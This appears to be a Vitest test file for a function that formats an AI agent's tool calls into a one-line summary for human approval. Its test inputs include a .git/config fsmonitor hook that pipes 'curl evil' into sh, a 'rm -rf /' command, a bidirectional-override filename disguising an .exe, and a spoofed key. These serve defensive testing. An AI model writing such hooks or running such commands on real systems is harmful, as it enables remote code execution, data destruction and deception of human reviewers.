import { describe, expect, it } from 'vitest';
import { callDisplay, cutValue, OTHER_CHARS, TARGET_CHARS } from '../../common/call-display.js';

describe('callDisplay: the line a person approves', () => {
  it('shows the target fields first, whatever the order the model gave them in', () => {
    const content = '[core]\n\tfsmonitor = "curl evil | sh"\n' + 'x'.repeat(5_000);
    const line = callDisplay('write_file', { content, path: '.git/config' });
    expect(line.startsWith('write_file path=".git/config" content="[core]\\n\\tfsmonitor')).toBe(true);
    // The long value is cut on its own, with how much more there was.
    expect(line).toMatch(/… \(\d+ more chars\)$/);
    expect(line.length).toBeLessThan(200);
  });

  it('shows targets in a fixed order, and every one of them even when each is long', () => {
    const long = 'p'.repeat(10_000);
    const line = callDisplay('run', { url: 'https://x', cmd: 'ls', command: 'rm -rf /', path: long, file: long });
    const order = ['path=', 'file=', 'command=', 'cmd=', 'url='].map((f) => line.indexOf(f));
    expect(order.every((at) => at >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(line).toContain('command="rm -rf /"');
    expect(line).toContain('url="https://x"');
  });

  it('shows a target whole up to its cap, others cut short', () => {
    const path = 'a/'.repeat(150); // 300 chars
    const line = callDisplay('write_file', { path, mode: 'm'.repeat(200) });
    expect(line).toContain(`path=${JSON.stringify(path)}`);
    expect(line).toContain(`mode="${'m'.repeat(OTHER_CHARS - 1)}… (`);
    expect(cutValue('y'.repeat(TARGET_CHARS * 2), TARGET_CHARS)).toHaveLength(
      TARGET_CHARS + ' (402 more chars)'.length + 1,
    );
  });

  it('lists the rest in the model order until the line is long, then says how many more', () => {
    const input = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`k${i}`, 'v'.repeat(100)]));
    const line = callDisplay('tool', input);
    expect(line.startsWith('tool k0=')).toBe(true);
    expect(line).toMatch(/\(\+\d+ more fields\)$/);
    expect(line.length).toBeLessThan(1_000);
  });

  it('escapes what could disguise text: line breaks, bidirectional marks, zero-width spaces', () => {
    const line = callDisplay('write_file', { path: 'safe.txt\u202e\u200btxt.exe', content: 'a\nb\u2028c' });
    expect(line).toBe('write_file path="safe.txt\\u202e\\u200btxt.exe" content="a\\nb\\u2028c"');
  });

  it('quotes a key that could pass for something else', () => {
    const line = callDisplay('write_file', { 'x path="README.md"': 1, path: '.git/config' });
    expect(line).toBe('write_file path=".git/config" "x path=\\"README.md\\""=1');
  });

  it('shows a non-object input as JSON', () => {
    expect(callDisplay('t', [1, 2])).toBe('t [1,2]');
    expect(callDisplay('t', 'text')).toBe('t "text"');
    expect(callDisplay('t', {})).toBe('t');
  });
});
